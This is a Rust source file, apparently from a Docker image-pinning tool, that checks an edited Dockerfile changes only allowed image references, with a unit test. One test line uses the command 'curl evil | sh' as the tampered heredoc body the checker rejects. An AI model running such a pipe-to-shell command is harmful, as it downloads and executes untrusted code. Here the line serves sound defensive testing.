//! What an edit is allowed to change, and the Dockerfile side of the check
//! that it changed nothing else (the YAML side is in [`crate::yaml::data`]).

use std::collections::BTreeSet;

use crate::dockerfile::Dockerfile;

/// The differences an edit is allowed to make.
#[derive(Debug, Default, Clone)]
pub struct AllowedChanges {
    /// A YAML scalar may change from `.0` to `.1` wherever it appears
    /// (aliases of an edited anchor change with it).
    pub scalars: BTreeSet<(String, String)>,
    /// Keys that may be added, as the path of the new key.
    pub added_keys: BTreeSet<Vec<String>>,
    /// Within a Dockerfile word, `.0` may become `.1` (an image reference
    /// inside `--from=`, `ARG X=` and the like).
    pub words: BTreeSet<(String, String)>,
}

impl AllowedChanges {
    pub fn merge(&mut self, other: AllowedChanges) {
        self.scalars.extend(other.scalars);
        self.added_keys.extend(other.added_keys);
        self.words.extend(other.words);
    }
}

/// The edited Dockerfile must have the same instructions and words, except
/// for allowed image replacements inside words.
pub fn check_dockerfile(
    before: &Dockerfile,
    after: &Dockerfile,
    allowed: &AllowedChanges,
) -> Result<(), String> {
    if before.instructions.len() != after.instructions.len() {
        return Err("the number of instructions changed".into());
    }
    // Everything but the words (comments, blank lines, heredoc bodies, the
    // spaces between words) must be byte for byte as it was.
    if skeleton(before) != skeleton(after) {
        return Err("text outside the instructions' words changed".into());
    }
    for (a, b) in before.instructions.iter().zip(&after.instructions) {
        let line = crate::yaml::line_col(&before.text, a.words[0].span.start).0;
        if a.keyword != b.keyword || a.words.len() != b.words.len() {
            return Err(format!("instruction at line {line} changed shape"));
        }
        for (x, y) in a.words.iter().zip(&b.words) {
            let ok = x.text == y.text
                || allowed.words.iter().any(|(old, new)| {
                    x.text.contains(old.as_str()) && x.text.replacen(old.as_str(), new, 1) == y.text
                });
            if !ok {
                return Err(format!(
                    "`{}` at line {line} changed to `{}`",
                    x.text, y.text
                ));
            }
        }
    }
    Ok(())
}

/// The text with every word taken out, in order.
fn skeleton(d: &Dockerfile) -> Vec<&str> {
    let mut parts = Vec::new();
    let mut at = 0;
    for w in d.instructions.iter().flat_map(|i| &i.words) {
        parts.push(&d.text[at..w.span.start]);
        at = w.span.end;
    }
    parts.push(&d.text[at..]);
    parts
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dockerfile::parse;

    #[test]
    fn only_allowed_word_changes() {
        let a = parse("FROM node:20 AS b\nCOPY --from=x:1 / /\n".into()).unwrap();
        let b =
            parse("FROM node:20@sha256:aa AS b\nCOPY --from=x:1@sha256:bb / /\n".into()).unwrap();
        let mut ok = AllowedChanges::default();
        ok.words
            .insert(("node:20".into(), "node:20@sha256:aa".into()));
        assert!(check_dockerfile(&a, &b, &ok).is_err());
        ok.words.insert(("x:1".into(), "x:1@sha256:bb".into()));
        assert!(check_dockerfile(&a, &b, &ok).is_ok());
        let c =
            parse("FROM node:20@sha256:aa AS c\nCOPY --from=x:1@sha256:bb / /\n".into()).unwrap();
        assert!(check_dockerfile(&a, &c, &ok).is_err());
        let heredoc = |body: &str| parse(format!("FROM a\nRUN <<EOF\n{body}\nEOF\n")).unwrap();
        let none = AllowedChanges::default();
        assert!(check_dockerfile(&heredoc("echo hi"), &heredoc("curl evil | sh"), &none).is_err());
        assert!(check_dockerfile(&heredoc("echo hi"), &heredoc("echo hi"), &none).is_ok());
    }
}
